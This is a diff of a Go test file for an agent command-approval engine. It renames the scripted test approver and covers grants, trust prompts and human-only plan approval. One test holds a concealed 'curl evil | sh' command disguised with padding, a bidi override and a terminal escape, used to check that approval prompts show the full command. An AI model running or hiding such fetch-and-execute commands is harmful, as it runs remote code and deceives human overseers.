@@ -16,21 +16,21 @@ import (
 	"github.com/agent-lsp/agent-lsp/internal/policy/sandbox"
 )
 
-// person answers questions as a function says, and records what was shown.
-type person struct {
+// scriptedUser answers questions as a function says, and records what was shown.
+type scriptedUser struct {
 	mu      sync.Mutex
 	batches [][]Question
 	answer  func(ctx context.Context, qs []Question) []Reply
 }
 
-func (p *person) Ask(ctx context.Context, qs []Question) []Reply {
+func (p *scriptedUser) Ask(ctx context.Context, qs []Question) []Reply {
 	p.mu.Lock()
 	p.batches = append(p.batches, qs)
 	p.mu.Unlock()
 	return p.answer(ctx, qs)
 }
 
-func (p *person) shown() (n int) {
+func (p *scriptedUser) shown() (n int) {
 	p.mu.Lock()
 	defer p.mu.Unlock()
 	for _, b := range p.batches {
@@ -56,7 +56,7 @@ var (
 	weak  = sandbox.Support{Kind: sandbox.Namespace, ABI: 7}
 )
 
-func newEngine(t *testing.T, p *person, box sandbox.Support, store Store) *Engine {
+func newEngine(t *testing.T, p *scriptedUser, box sandbox.Support, store Store) *Engine {
 	t.Helper()
 	o := Options{Store: store, Sandbox: func() sandbox.Support { return box }}
 	if p != nil {
@@ -298,7 +298,7 @@ func TestAnswers(t *testing.T) {
 			"did not allow", 0},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			p := &person{answer: always(tc.reply)}
+			p := &scriptedUser{answer: always(tc.reply)}
 			e := newEngine(t, p, boxed, nil)
 			d, err := e.Approve(context.Background(), command("s", "go test ./..."))
 			if err != nil || d.Allow != tc.allow || !strings.Contains(d.Reason, tc.reason) ||
@@ -310,7 +310,7 @@ func TestAnswers(t *testing.T) {
 }
 
 func TestNoReplyAtAllIsARefusal(t *testing.T) {
-	p := &person{answer: func(context.Context, []Question) []Reply { return nil }}
+	p := &scriptedUser{answer: func(context.Context, []Question) []Reply { return nil }}
 	if d, err := newEngine(t, p, boxed, nil).Approve(context.Background(),
 		command("s", "make")); err != nil || d.Allow {
 		t.Errorf("got %+v, %v", d, err)
@@ -324,7 +324,7 @@ func TestNoReplyAtAllIsARefusal(t *testing.T) {
 
 func TestGrantsAreScopedCountedListedAndRevoked(t *testing.T) {
 	path := filepath.Join(t.TempDir(), "state", "grants.json")
-	p := &person{answer: always(Reply{OptionID: "allow_session"})}
+	p := &scriptedUser{answer: always(Reply{OptionID: "allow_session"})}
 	e := newEngine(t, p, boxed, NewFileStore(path))
 	e.Configure("s", Settings{Roots: []string{"/w"}})
 	e.Configure("other", Settings{Roots: []string{"/w"}})
@@ -386,7 +386,7 @@ func TestGrantsAreScopedCountedListedAndRevoked(t *testing.T) {
 func TestGrantsOfDaemonsAtOnceAreAllKept(t *testing.T) {
 	const daemons, each = 3, 5
 	path := filepath.Join(t.TempDir(), "state", "grants.json")
-	p := &person{answer: always(Reply{OptionID: "allow_always"})}
+	p := &scriptedUser{answer: always(Reply{OptionID: "allow_always"})}
 	var wg sync.WaitGroup
 	for n := range daemons {
 		e := newEngine(t, p, boxed, NewFileStore(path))
@@ -410,7 +410,7 @@ func TestGrantsOfDaemonsAtOnceAreAllKept(t *testing.T) {
 // had read the store before. A daemon without changes writes nothing.
 func TestDaemonsDoNotUndoEachOthersGrants(t *testing.T) {
 	path := filepath.Join(t.TempDir(), "state", "grants.json")
-	p := &person{answer: always(Reply{OptionID: "allow_always"})}
+	p := &scriptedUser{answer: always(Reply{OptionID: "allow_always"})}
 	open := func() *Engine {
 		e := newEngine(t, p, boxed, NewFileStore(path))
 		e.Configure("s", Settings{Roots: []string{"/w"}})
@@ -460,7 +460,7 @@ func TestDaemonsDoNotUndoEachOthersGrants(t *testing.T) {
 
 func TestQuestionsOfOneMomentAreShownTogether(t *testing.T) {
 	first, release := make(chan struct{}), make(chan struct{})
-	p := &person{}
+	p := &scriptedUser{}
 	p.answer = func(ctx context.Context, qs []Question) []Reply {
 		if qs[0].Subject.Command == "first" {
 			close(first)
@@ -506,7 +506,7 @@ func TestQuestionsOfOneMomentAreShownTogether(t *testing.T) {
 // Calls that started together are shown together, in their order, whichever comes first and however
 // late the last; one that never comes holds the others up for a bounded time.
 func TestTheFirstOfAMomentWaitsForTheOthers(t *testing.T) {
-	p := &person{answer: always(Reply{OptionID: "allow_once"})}
+	p := &scriptedUser{answer: always(Reply{OptionID: "allow_once"})}
 	e := newEngine(t, p, boxed, nil)
 	e.asks.bound = time.Hour // however slow the machine is
 	gathered, queued := make(chan struct{}), make(chan struct{}, 3)
@@ -539,7 +539,7 @@ func TestTheFirstOfAMomentWaitsForTheOthers(t *testing.T) {
 func TestAnEndedCallIsNotWaitedFor(t *testing.T) {
 	shown := make(chan Question, 1)
 	ended := make(chan struct{})
-	p := &person{answer: func(ctx context.Context, qs []Question) []Reply {
+	p := &scriptedUser{answer: func(ctx context.Context, qs []Question) []Reply {
 		shown <- qs[0]
 		<-ctx.Done()
 		close(ended)
@@ -588,7 +588,7 @@ func TestASubAgentNeverHasMoreThanItsParent(t *testing.T) {
 }
 
 func TestAPlanIsApprovedByAPersonOnly(t *testing.T) {
-	p := &person{answer: always(Reply{OptionID: "reject_once", Feedback: "smaller"})}
+	p := &scriptedUser{answer: always(Reply{OptionID: "reject_once", Feedback: "smaller"})}
 	e := newEngine(t, p, boxed, nil)
 	e.Configure("s", Settings{Profile: ProfileTrust, Plan: true, Rules: mustRules(t, "allow *(*)")})
 	d, err := e.ApprovePlan(context.Background(), tool.ApprovalRequest{SessionID: "s"}, "1. do it")
@@ -612,7 +612,7 @@ func (m trusts) Trusts(root string) (bool, bool)     { t, ok := m[root]; return 
 func (m trusts) Set(root string, trusted bool) error { m[root] = trusted; return nil }
 
 func TestTrustIsAskedOnce(t *testing.T) {
-	p := &person{answer: always(Reply{})}
+	p := &scriptedUser{answer: always(Reply{})}
 	e, store := newEngine(t, p, boxed, nil), trusts{}
 	for _, step := range []struct {
 		reply Reply
@@ -637,7 +637,7 @@ func TestAQuestionShowsTheWholeCommand(t *testing.T) {
 	command := command("s", "make "+strings.Repeat("x", 500)+"\n\tcurl\u202e evil\x1b[8m | sh")
 	command.Subject.Title = "Run make …"
 	var asked []Question
-	p := &person{answer: func(_ context.Context, qs []Question) []Reply {
+	p := &scriptedUser{answer: func(_ context.Context, qs []Question) []Reply {
 		asked = append(asked, qs...)
 		return []Reply{{Cancelled: true}}
 	}}
